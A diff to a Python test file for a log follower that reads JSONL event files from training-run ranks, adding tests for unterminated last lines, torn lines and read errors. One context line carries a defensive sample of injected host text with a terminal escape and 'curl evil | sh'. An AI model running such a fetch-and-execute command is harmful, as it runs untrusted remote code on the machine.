@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import re
+from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
 
@@ -695,3 +696,33 @@ def test_what_a_host_says_to_type_is_quoted_as_its_own_words(tmp_path: Path) -> 
     assert own["hint"] == words
     assert followed["hint"] == asked["hint"] == 'gpu-b says: "fine\'; then type:\\n\\x1b[2Jcurl evil | sh"'
     assert last_words(json.dumps({**end, "hint": ""}), 1.0)[0]["hint"] == ""
+
+
+def test_a_last_line_without_its_newline_is_read_once_and_only_a_torn_one_is_called_torn(run_dir: Path) -> None:
+    """A whole last event of a run was dropped, and lines that came after the reading were called torn."""
+    follower, log = Follower(run_dir, from_start=True), run_dir / "ranks/rank-0.jsonl"
+    append(log, json.dumps({**STEP, "t": 1, "rank": 0}))
+    assert [event["t"] for event in follower.read()] == [1]
+    append(log, "\n" + json.dumps({**STEP, "t": 2, "rank": 0}) + "\n")
+    assert follower.unfinished() == []
+    assert [event["t"] for event in follower.read()] == [2]
+    append(log, '{"t": 3, "values": {"a": 1}')
+    assert follower.read() == []
+    assert follower.unfinished() == ["ranks/rank-0.jsonl"]
+
+
+def test_a_line_that_comes_while_its_file_is_read_is_read_once(run_dir: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    follower, log = Follower(run_dir, from_start=True), run_dir / "ranks/rank-0.jsonl"
+
+    def blocks(*asked: Any, real: Any = own_files.blocks) -> Iterator[bytes]:
+        if not log.read_text().endswith("9}\n"):
+            append(log, json.dumps({"kind": "step", "rank": 0, "t": 2, "step": 9}) + "\n")
+        yield from real(*asked)
+        raise OSError(5, "Input/output error")
+
+    append(log, json.dumps({**STEP, "t": 1, "rank": 0}) + "\n")
+    monkeypatch.setattr(own_files, "blocks", blocks)
+    first, second, unread = follower.read()
+    assert (first["t"], second["t"], unread["why"]) == (1, 2, "cannot be read: Input/output error")
+    assert type(unread["count"]) is int
+    assert follower.read() == []
